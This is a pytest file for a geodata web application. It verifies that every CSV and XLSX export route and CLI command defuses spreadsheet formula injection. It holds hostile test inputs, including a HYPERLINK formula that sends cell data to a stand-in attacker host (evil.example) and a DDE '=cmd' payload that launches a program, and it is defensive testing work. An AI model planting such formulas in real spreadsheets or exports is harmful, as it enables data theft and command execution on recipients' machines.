"""Every CSV and XLSX that the product gives, with hostile texts in every free-text field."""

import csv
import re
from collections.abc import Iterator
from dataclasses import replace
from io import BytesIO, StringIO
from pathlib import Path
from zipfile import ZipFile

import openpyxl
import pytest
from click.testing import CliRunner
from dash import Dash
from flask.testing import FlaskClient

from callbacks.context.visitor import EDITOR_COOKIE
from geodata.cli.facts import main
from geodata.store import Store
from layers.themes.registry import THEMES
from tests.quick import first_is_quick
from tests.routes.answers.test_page import PAGE, bring_in, token
from tests.routes.published import Texts, app_with

LINK = '=HYPERLINK("http://evil.example/?"&A1,"{}")'
STARTS = ("{}", "'{}", "''{}", " {}")
HOSTILE = [
    *(
        Texts(
            *(
                STARTS[(at + turn) % len(STARTS)].format(LINK.format(field))
                for at, field in enumerate(Texts.__annotations__)
            )
        )
        for turn in (0, 1)
    ),
    Texts("+1+1|title", "'+1+1", "@SUM(1)", "'＠x", "'=1+1\n=2+2", "＋1|point"),
]
"""A hostile text in every field; tests of ``geodata/base`` try every beginning on single cells."""
BAD_FILE = Texts(title="=1+1", note="=cmd|' /C calc'!A0", service_point="x" * 300).file()

# What a cell of CSV must not begin with, where programs pass over spaces; numbers may be negative.
CALCULATED = re.compile(r"\s*[=+\-@＝＋－＠\t\r\n]")
NUMBER = re.compile(r"-?\d+(\.\d+)?(e-?\d+)?")

ADDRESSES = {
    "/api/v1/areas/<division>.csv": [
        f"/api/v1/areas/{division}.csv?data={{data}}"
        for division in ("municipality", "wellbeing_county", "employment_area", "region")
    ],
    "/api/v1/themes/<theme>.csv": [f"/api/v1/themes/{theme}.csv?data={{data}}" for theme in THEMES],
    "/api/v1/themes/<theme>.xlsx": [
        f"/api/v1/themes/{theme}.xlsx?data={{data}}&lang=sv" for theme in THEMES
    ],
    "/api/v1/relations/<a>/<b>.csv": [
        "/api/v1/relations/region/wellbeing_county.csv?data={data}&moves=305:wellbeing_county:20"
    ],
    "/api/v1/relations/<a>/<b>.xlsx": [
        "/api/v1/relations/region/wellbeing_county.xlsx?data={data}&moves=305:wellbeing_county:20"
    ],
    "/api/v1/groups.csv": ["/api/v1/groups.csv?data={data}"],
    "/export.<kind>": [
        f"/export.{kind}?data={{data}}&{view}"
        for kind in ("csv", "xlsx")
        for view in (
            *("theme=tym", "theme=youth&class=authority_runs", "theme=tym_youth"),
            *("theme=tym&compare=youth", "theme=tym&versus=known-2026&county=01"),
        )
    ],
    "/aineistot/template.<kind>": [
        *(f"/aineistot/template.{kind}?answers=1&lang=fi" for kind in ("xlsx", "zip")),
        "/aineistot/template.zip",
    ],
    "/aineistot/report.xlsx": ["/aineistot/report.xlsx?lang=en"],
    "/aineistot/versions/<int:number>/standard.<kind>": [
        "/aineistot/versions/1/standard.xlsx?lang=sv"
    ],
    "/aineistot/versions/<int:number>/report.xlsx": ["/aineistot/versions/1/report.xlsx"],
}
"""Addresses of each route that gives CSV or XLSX."""

FILLED_IN = "/aineistot/taytto/template.xlsx"
"""Route that gives a workbook of what is sent to it."""

NO_SPREADSHEETS = {"/qr.svg", "/qr.png", "/api/v1/areas/<division>.geojson", "/export.pptx"}


def assert_calculates_nothing(content: bytes) -> int:
    """Look into every cell of a file of CSV or XLSX, or of a package of them; count the texts."""
    if not content.startswith(b"PK"):
        return _assert_csv(content)
    with ZipFile(BytesIO(content)) as package:
        names = package.namelist()
        if "xl/workbook.xml" not in names:
            return sum(_assert_csv(package.read(name)) for name in names)
        for name in names:
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >/]", package.read(name)), name
    texts = 0
    for sheet in openpyxl.load_workbook(BytesIO(content)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)
                if isinstance(cell.value, str):
                    texts += 1
                    assert cell.data_type == "s"
                    assert cell.quotePrefix or not CALCULATED.match(cell.value)
    return texts


def _assert_csv(content: bytes) -> int:
    text = content.decode("utf-8-sig")
    delimiter = ";" if text.partition("\n")[0].count(";") > 1 or ";" in text[:40] else ","
    cells = [cell for row in csv.reader(StringIO(text), delimiter=delimiter) for cell in row]
    for cell in cells:
        assert NUMBER.fullmatch(cell) or not CALCULATED.match(cell), cell
    return len(cells)


@pytest.fixture(scope="module", params=first_is_quick(HOSTILE))
def made(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Dash, Store, Texts]]:
    app, store = app_with(tmp_path_factory.mktemp("hostile"), request.param)
    store.editors.add("anna", "a long password")
    yield app, store, request.param
    store.close()


@pytest.fixture
def browser(made: tuple[Dash, Store, Texts]) -> FlaskClient:
    """A browser of an editor who has brought the same file in."""
    app, store, texts = made
    client: FlaskClient = app.server.test_client()
    client.set_cookie(EDITOR_COOKIE, store.sessions.start("anna"))
    assert bring_in(client, texts.file()).status_code == 303
    return client


def test_every_route_is_walked(app: Dash) -> None:
    gives = re.compile(r"\.(csv|xlsx|zip|<kind>)$")
    routes = {rule.rule for rule in app.server.url_map.iter_rules() if gives.search(rule.rule)}
    assert routes - NO_SPREADSHEETS == {*ADDRESSES, FILLED_IN}


@pytest.mark.parametrize(
    "route",
    [
        pytest.param(route, marks=() if route.endswith(".csv") else pytest.mark.slow)
        for route in ADDRESSES
    ],
)
def test_no_file_of_a_route_calculates(browser: FlaskClient, route: str) -> None:
    for address in ADDRESSES[route]:
        for data in ("survey-1", "own") if "{data}" in address else ("",):
            response = browser.get(address.format(data=data))
            assert response.status_code == 200, address
            assert assert_calculates_nothing(response.data) > 20, address


def test_a_workbook_of_what_is_filled_in_calculates_nothing(
    made: tuple[Dash, Store, Texts], browser: FlaskClient
) -> None:
    form = {"token": token(browser), "sheets": made[2].file().decode()}
    response = browser.post(FILLED_IN, data=form)
    assert response.status_code == 200
    assert assert_calculates_nothing(response.data) > 20


def test_the_texts_are_there_as_they_were_written(
    made: tuple[Dash, Store, Texts], browser: FlaskClient
) -> None:
    texts = made[2]
    written = {text.strip() for text in (texts.title, texts.collector, texts.licence, texts.source)}
    book = openpyxl.load_workbook(BytesIO(browser.get("/export.xlsx").data))
    assert written <= {cell.value for row in book.worksheets[0] for cell in row}
    first = next(
        iter(
            csv.DictReader(
                StringIO(browser.get("/export.csv").data.decode("utf-8-sig")), delimiter=";"
            )
        )
    )
    assert {"survey", "collector", "licence", "source"} <= set(first)


def test_a_report_of_a_bad_file_calculates_nothing(browser: FlaskClient) -> None:
    bring_in(browser, BAD_FILE)
    report = browser.get("/aineistot/report.xlsx").data
    assert assert_calculates_nothing(report) > 50
    assert "=1+1" in {
        cell.value
        for sheet in openpyxl.load_workbook(BytesIO(report))
        for row in sheet
        for cell in row
    }


def test_no_file_of_a_command_calculates(made: tuple[Dash, Store, Texts], tmp_path: Path) -> None:
    _, store, texts = made
    url = str(store.engine.url)
    (tmp_path / "file.json").write_bytes(texts.file())
    (tmp_path / "areas.geojson").write_text(
        '{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"id": '
        '"=1+1"}, "geometry": {"type": "Polygon", "coordinates": [[[25, 62], [26, 62], [26, 63], '
        "[25, 63], [25, 62]]]}}]}"
    )
    runs = {
        "t.xlsx": f"answers template --data current --store {url} --out",
        "t.zip": f"answers template --format csv --data current --store {url} --out",
        "r.xlsx": f"answers check {tmp_path / 'file.json'} --report",
        "e.csv": "export --format csv --division wellbeing_county --out",
        "o.csv": f"relate {tmp_path / 'areas.geojson'} --code id --with region --out",
    }
    for name, words in runs.items():
        path = tmp_path / name
        result = CliRunner().invoke(main, [*words.split(), str(path)])
        assert result.exit_code == 0, result.output
        assert assert_calculates_nothing(path.read_bytes()) > 5, name


def test_a_file_of_hostile_texts_comes_back_from_our_own_template(browser: FlaskClient) -> None:
    """Brought in, filled in by the product as a template, and brought in again."""
    for kind in ("zip", "xlsx", "json"):
        before = browser.get("/api/v1/themes/tym.csv?data=survey-1").data
        template = browser.get(f"{PAGE}/template.{kind}?answers=1&lang=fi").data
        assert bring_in(browser, template).status_code == 303
        after = browser.get("/api/v1/themes/tym.csv?data=own").data
        same = ("code", "survey", "collector", "licence", "source", "note")
        was, now = (
            [
                [row[name] for name in same]
                for row in csv.DictReader(StringIO(table.decode("utf-8-sig")))
            ]
            for table in (before, after)
        )
        assert was == now


def test_texts_of_the_tester_are_hostile() -> None:
    """Or the walk would prove nothing."""
    fields = [field for each in HOSTILE for field in vars(replace(each)).values()]
    assert all(CALCULATED.match(text.lstrip("'")) for text in fields)
